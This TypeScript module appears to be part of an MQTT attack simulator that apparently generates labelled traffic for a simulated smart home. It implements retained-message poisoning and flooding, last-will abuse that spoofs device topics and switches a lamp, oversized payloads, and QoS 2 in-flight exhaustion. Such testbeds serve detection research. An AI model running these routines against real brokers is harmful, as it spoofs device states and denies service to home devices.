// Messages as weapons: retained lies, wills, payloads that are too large, promises of QoS 2 never kept.

import type { Attack } from '../attacker.js'
import { connectPacket, publishPacket } from '../packets.js'
import { TOPIC_WORDS } from './words.js'

/** Lies that stay. */
export const retained: Attack = {
  name: 'retained',
  summary: 'retained poisoning and flood: 3 to 5 addresses overwrite what devices have told, and leave 1,500 retained messages on new topics each, 50 a second',
  attackers: [3, 5],
  async run (attacker) {
    const { chance, scene: { home } } = attacker
    const clientId = `${chance.oneOf(['mqttjs', 'paho', 'mosq'])}_${chance.text(10)}`
    const client = await attacker.client({ clientId, keepalive: 60 })
    if (client === null) return
    const say = (topic: string, payload: string): void => {
      attacker.note(clientId, topic, payload)
      client.publish(topic, payload, { qos: chance.oneOf([0, 1]), retain: true }, () => {})
    }
    const lies = [
      ...home.namesOf('switch').map(name => [`${home.base}/${name}/state`, chance.oneOf(['', 'UNKNOWN', 'pwned', '{"state":"OFF"}'])]),
      ...home.namesOf('tasmota').map(name => [`tele/${name}/LWT`, chance.oneOf(['', 'Offline!', 'hacked'])]),
      ...home.namesOf('dht11').map(name => [`${home.base}/${name}/temperature`, chance.oneOf(['-273.15', '9999', 'NaN', ''])]),
      [`${home.zigbee}/bridge/state`, '{"state":"gone"}'], ['homeassistant/status', 'x']
    ]
    for (let sent = 0; sent < 1_500 && !attacker.over && client.connected; sent++) {
      if (chance.happens(0.3)) {
        const [topic, payload] = chance.oneOf(lies)
        say(topic, payload)
      } else {
        say(`${chance.oneOf(TOPIC_WORDS)}/${chance.text(8)}/${sent}`, chance.text(chance.whole(1, 200)))
      }
      await attacker.pause(chance.between(10, 30))
    }
    client.end(!client.connected)
  }
}

/** Wills as a way to speak. */
export const wills: Attack = {
  name: 'will-abuse',
  summary: 'will abuse: 3 to 5 addresses connect with a will for somebody else\'s topic and break the connection, some 8 times a second each',
  attackers: [3, 5],
  async run (attacker) {
    const { chance, scene: { home } } = attacker
    // Mostly what others look at; one lamp is switched, too. What devices do in answer is benign, and should not be half of the capture.
    const topics = [...home.namesOf('switch').map(name => `${home.base}/${name}/availability`), ...home.namesOf('tasmota').map(name => `tele/${name}/LWT`), `${home.base}/alarm`, 'homeassistant/status', `${home.base}/${home.namesOf('switch')[0]}/set`]
    for (let tries = 0; tries < 500 && !attacker.over; tries++) {
      const socket = await attacker.connect()
      if (socket === null) return
      const clientId = chance.text(12)
      const will = { topic: chance.oneOf(topics), payload: chance.oneOf(['ON', 'OFF', 'offline', 'Offline', chance.text(chance.whole(10, 400))]), qos: chance.oneOf([0, 1, 2] as const), retain: chance.happens(0.5) }
      attacker.note(clientId, will.topic, will.payload)
      await attacker.send(socket, connectPacket({ clientId, keepalive: chance.whole(1, 60), will }))
      await attacker.pause(chance.between(20, 120))
      socket.resetAndDestroy()
      await attacker.pause(chance.between(10, 100))
    }
  }
}

/** Payloads that are too large. */
export const largePayloads: Attack = {
  name: 'large-payloads',
  summary: 'large payloads: 3 to 4 addresses publish messages of 256 kB to 2 MB, random bytes or one byte repeated, up to 5 MB each',
  attackers: [3, 4],
  async run (attacker) {
    const { chance } = attacker
    const clientId = chance.text(14)
    let left = 5_000_000
    while (left > 0 && !attacker.over) {
      const socket = await attacker.connect()
      if (socket === null) return
      await attacker.send(socket, connectPacket({ clientId }))
      for (let i = chance.whole(1, 3); i > 0 && left > 0; i--) {
        const bytes = chance.whole(256, 2_000) * 1_000
        const payload = chance.happens(0.5) ? chance.bytes(bytes) : Buffer.alloc(bytes, chance.whole(0, 255))
        const topic = `${chance.oneOf(TOPIC_WORDS)}/${chance.text(6)}`
        attacker.note(clientId, topic, payload)
        left -= bytes
        if (!await attacker.send(socket, publishPacket(topic, payload, { qos: chance.oneOf([0, 1]), id: chance.whole(1, 65_535) }))) break
        await attacker.pause(chance.between(500, 2_500))
      }
      socket.end()
      await attacker.pause(chance.between(500, 2_000))
    }
  }
}

/** Promises never kept. */
export const qos2: Attack = {
  name: 'qos2-exhaustion',
  summary: 'QoS 2 in-flight exhaustion: 3 to 5 addresses publish at QoS 2 with identifier after identifier and never release one, 100 a second each, up to 2,500',
  attackers: [3, 5],
  async run (attacker) {
    const { chance } = attacker
    const clientId = chance.text(14)
    const topic = `${chance.oneOf(TOPIC_WORDS)}/${chance.oneOf(TOPIC_WORDS)}`
    let id = 0
    while (id < 2_500 && !attacker.over) {
      const socket = await attacker.connect()
      if (socket === null) return
      await attacker.send(socket, connectPacket({ clientId, clean: false, keepalive: 0 }))
      while (id < 2_500 && !socket.destroyed) {
        const payload = chance.text(chance.whole(2, 40))
        attacker.note(clientId, topic, payload)
        if (!await attacker.send(socket, publishPacket(topic, payload, { qos: 2, id: ++id }))) break
        await attacker.pause(chance.between(5, 15))
      }
      await attacker.pause(1_000)
    }
    await attacker.pause(3_600_000)
  }
}
